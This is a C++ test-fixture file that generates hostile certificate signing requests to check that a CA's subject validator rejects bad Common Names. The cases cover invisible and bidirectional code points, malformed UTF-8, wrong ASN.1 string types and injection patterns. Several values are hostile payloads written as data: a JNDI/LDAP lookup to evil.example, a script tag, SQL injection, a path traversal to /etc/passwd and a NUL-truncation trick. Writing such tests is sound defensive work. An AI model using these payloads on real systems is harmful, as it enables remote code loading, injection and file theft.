// Values of the subject: texts that are not what they look like, and types that hide them.
#include <fmt/format.h>

#include "tests/hostile_csrs/hostile_csr.h"

namespace hallmark::testing {
namespace {

// U+0000 to U+10FFFF, surrogates too, which UTF-8 must not have.
std::string Utf8(uint32_t point) {
  std::string text;
  if (point < 0x80) return {static_cast<char>(point)};
  const int trailing = point < 0x800 ? 1 : point < 0x10000 ? 2 : 3;
  const uint32_t lead = 0xff00u >> (trailing + 1);
  text += static_cast<char>((lead & 0xff) | point >> (6 * trailing));
  for (int i = trailing - 1; i >= 0; --i) text += static_cast<char>(0x80 | (point >> (6 * i) & 0x3f));
  return text;
}

// What nobody sees in a name, or sees as something else (RFC 4518 2.2, 2.4), and what no text has.
std::vector<HostileCsr> CodePoints() {
  struct Point {
    uint32_t point;
    const char* name;
  };
  constexpr Point kPoints[] = {
      {0x0, "NUL"},
      {0x1, "start of heading"},
      {0x8, "backspace"},
      {0x9, "tab"},
      {0xa, "line feed"},
      {0xd, "carriage return"},
      {0x1b, "escape"},
      {0x1e, "record separator"},
      {0x1f, "unit separator"},
      {0x7f, "delete"},
      {0x80, "first of C1"},
      {0x85, "next line"},
      {0x9b, "control sequence introducer"},
      {0x9f, "last of C1"},
      {0xad, "soft hyphen"},
      {0x34f, "combining grapheme joiner"},
      {0x61c, "Arabic letter mark"},
      {0x180e, "Mongolian vowel separator"},
      {0x200b, "zero width space"},
      {0x200c, "zero width non-joiner"},
      {0x200d, "zero width joiner"},
      {0x200e, "left-to-right mark"},
      {0x200f, "right-to-left mark"},
      {0x2028, "line separator"},
      {0x2029, "paragraph separator"},
      {0x202a, "left-to-right embedding"},
      {0x202e, "right-to-left override"},
      {0x2060, "word joiner"},
      {0x2066, "left-to-right isolate"},
      {0x2069, "pop directional isolate"},
      {0x206f, "nominal digit shapes"},
      {0xfe0f, "variation selector"},
      {0xfeff, "byte order mark"},
      {0xfff9, "interlinear annotation"},
      {0xfffc, "object replacement"},
      {0xfffd, "replacement character"},
      {0x1d173, "musical begin beam"},
      {0xe0001, "language tag"},
      {0xe0041, "tag A"},
      {0xe0100, "variation selector 17"},
      {0xe000, "private use"},
      {0xf8ff, "last of private use"},
      {0xf0000, "private use plane"},
      {0x10fffd, "last private use plane"},
      {0xfdd0, "noncharacter"},
      {0xfffe, "noncharacter"},
      {0xffff, "noncharacter"},
      {0x1fffe, "noncharacter"},
      {0x10ffff, "noncharacter"},
      {0xd800, "surrogate"},
      {0xdfff, "surrogate"},
  };
  std::vector<HostileCsr> rows;
  for (const auto& [point, name] : kPoints) {
    rows.push_back({fmt::format("U+{:04X} {} in CN", point, name),
                    CsrWithCommonName(der::kUtf8String, "device" + Utf8(point) + "1"), reason::kCsrMalformed,
                    "csr.subject", "CN must be"});
  }
  return rows;
}

std::vector<HostileCsr> Texts() {
  std::vector<HostileCsr> rows;
  const auto add = [&rows](const char* name, uint8_t tag, std::string_view value, const char* says = "CN must be") {
    rows.push_back({name, CsrWithCommonName(tag, value), reason::kCsrMalformed, "csr.subject", says});
  };
  using namespace std::string_view_literals;
  add("a NUL that hides what follows", der::kUtf8String, "device-1\0.evil.example"sv);
  add("a NUL at the end", der::kUtf8String, "device-1\0"sv);
  add("a NUL alone", der::kUtf8String, "\0"sv);
  add("NUL as two octets", der::kUtf8String, "device\xc0\x80"sv);
  add("a slash as two octets", der::kUtf8String, "device\xc0\xaf");
  add("a slash as three octets", der::kUtf8String, "device\xe0\x80\xaf");
  add("a slash as four octets", der::kUtf8String, "device\xf0\x80\x80\xaf");
  add("a pair of surrogates (CESU-8)", der::kUtf8String, "\xed\xa0\x81\xed\xb0\x80");
  add("U+110000", der::kUtf8String, "device\xf4\x90\x80\x80");
  add("UTF-8 of five octets", der::kUtf8String, "device\xf8\x88\x80\x80\x80");
  add("UTF-8 of six octets", der::kUtf8String, "device\xfc\x84\x80\x80\x80\x80");
  add("the octet fe", der::kUtf8String, "device\xfe");
  add("the octet ff", der::kUtf8String, "device\xff");
  add("two octets of UTF-8 without the second", der::kUtf8String, "device\xc3");
  add("three octets of UTF-8 without the third", der::kUtf8String, "device\xe2\x82");
  add("four octets of UTF-8 without the fourth", der::kUtf8String, "device\xf0\x9f\x98");
  add("UTF-8 whose second octet is ASCII", der::kUtf8String,
      "device\xc3"
      "A");
  add("a trailing octet without a leading one", der::kUtf8String, "device\x80");
  add("Latin-1 in a UTF8String", der::kUtf8String, "K\xe4se");
  add("UTF-16 in a UTF8String", der::kUtf8String, "\0d\0e"sv);
  add("an asterisk in a PrintableString", der::kPrintableString, "device*");
  add("an at sign in a PrintableString", der::kPrintableString, "a@example.com");
  add("an underscore in a PrintableString", der::kPrintableString, "device_1");
  add("an ampersand in a PrintableString", der::kPrintableString, "A&B");
  add("UTF-8 in a PrintableString", der::kPrintableString, "K\xc3\xa4se");
  add("a NUL in a PrintableString", der::kPrintableString, "device\0"sv);
  add("Latin-1 in an IA5String", der::kIa5String, "K\xe4se");
  add("UTF-8 in an IA5String", der::kIa5String, "K\xc3\xa4se");
  add("delete in an IA5String", der::kIa5String, "device\x7f");
  add("an escape sequence in an IA5String", der::kIa5String, "\x1b[31mdevice");
  add("an empty UTF8String", der::kUtf8String, "");
  add("an empty PrintableString", der::kPrintableString, "");
  add("an empty IA5String", der::kIa5String, "");
  add("a blank alone", der::kUtf8String, " ", "CN begins or ends with a blank");
  add("blanks alone", der::kPrintableString, "    ", "CN begins or ends with a blank");
  add("a blank before", der::kUtf8String, " device-1", "CN begins or ends with a blank");
  add("a blank after", der::kIa5String, "device-1 ", "CN begins or ends with a blank");
  return rows;
}

std::vector<HostileCsr> Types() {
  std::vector<HostileCsr> rows;
  const auto add = [&rows](const char* name, uint8_t tag, std::string_view value) {
    rows.push_back({name, CsrWithCommonName(tag, value), reason::kCsrMalformed, "csr.subject", "CN must be"});
  };
  using namespace std::string_view_literals;
  add("a TeletexString", 0x14, "device-1");
  add("a TeletexString that changes its character set", 0x14,
      "\x1b\x25\x47"
      "device-1");
  add("a TeletexString of Latin-1", 0x14, "K\xe4se");
  add("a BMPString", 0x1e, "\0d\0e\0v"sv);
  add("a BMPString of an odd number of octets", 0x1e, "\0d\0"sv);
  add("a BMPString of a right-to-left override", 0x1e, "\x20\x2e\0d"sv);
  add("a BMPString that reads as ASCII", 0x1e, "device-1");
  add("a UniversalString", 0x1c, "\0\0\0d"sv);
  add("a UniversalString beyond Unicode", 0x1c, "\x7f\xff\xff\xff");
  add("a NumericString", 0x12, "1234");
  add("a VideotexString", 0x15, "device-1");
  add("a VisibleString", 0x1a, "device-1");
  add("a GeneralString", 0x1b, "device-1");
  add("a GraphicString", 0x19, "device-1");
  add("an OCTET STRING", der::kOctetString, "device-1");
  add("a BIT STRING", der::kBitString, "\0device-1"sv);
  add("an INTEGER", der::kInteger, "\x01");
  add("a NULL", der::kNull, "");
  add("a UTCTime", der::kUtcTime, "261124120000Z");
  add("a SEQUENCE", der::kSequence,
      "\x0c\x01"
      "a");
  add("a UTF8String in pieces", 0x2c,
      "\x0c\x06"
      "device");
  add("a context's tag", 0x8c, "device-1");
  add("a private tag", 0xcc, "device-1");
  add("tag 0", 0x00, "device-1");
  return rows;
}

// Well-formed, and not what device-dps grants.
std::vector<HostileCsr> Patterns() {
  std::vector<HostileCsr> rows;
  const auto add = [&rows](const char* name, std::string_view value) {
    rows.push_back({name, CsrWithCommonName(der::kUtf8String, value), reason::kSubjectNotAllowed, "csr.subject.CN"});
  };
  add("a CN of 65 characters", std::string(65, 'a'));
  add("a CN of 65 characters, of which one is at the end of the limit", std::string(64, 'a') + ".");
  add("a CN of 7,000 characters", std::string(7000, 'a'));
  add("a CN that looks like Latin and is Cyrillic",
      "devi\xd1\x81"
      "e-1");
  add("a CN of wide digits", "device-\xef\xbc\x91");
  add("a CN with a combining accent", "device\xcc\x81");
  add("a CN with another attribute in it", "device-1,O=Other");
  add("a CN with another RDN in it", "device-1/O=Other");
  add("a CN with another value in it", "device-1+serialNumber=1");
  add("a CN with markup", "<script>alert(1)</script>");
  add("a CN with SQL", "' OR 1=1 --");
  add("a CN with a path", "../../etc/passwd");
  add("a CN with an octet in hexadecimal", "device%00");
  add("a CN with a template", "${jndi:ldap://evil.example/a}");
  add("a CN with a placeholder of profiles", "{csr.serialNumber}");
  add("a CN with a quotation mark", "device\"1");
  add("a CN with a backslash", "device\\1");
  add("a CN with an asterisk", "*");
  add("a CN with a blank inside", "device 1");
  add("a CN that ends with a dot", "device.");
  add("a CN that ends with an underscore", "device_");
  rows.push_back({"a CN of 64 characters", CsrWithCommonName(der::kUtf8String, std::string(64, 'a')), "", ""});
  rows.push_back({"a CN as IA5String", CsrWithCommonName(der::kIa5String, "device_1"), "", ""});
  rows.push_back({"a CN as PrintableString", CsrWithCommonName(der::kPrintableString, "device-1"), "", ""});
  rows.push_back({"a mebibyte as CN", CsrWithCommonName(der::kUtf8String, std::string(1 << 20, 'a')),
                  reason::kCsrTooLarge, "csr"});
  return rows;
}

}  // namespace

std::vector<HostileCsr> HostileNames() {
  std::vector<HostileCsr> rows = CodePoints();
  for (auto table : {Texts, Types, Patterns}) {
    for (HostileCsr& row : table()) rows.push_back(std::move(row));
  }
  return rows;
}

}  // namespace hallmark::testing
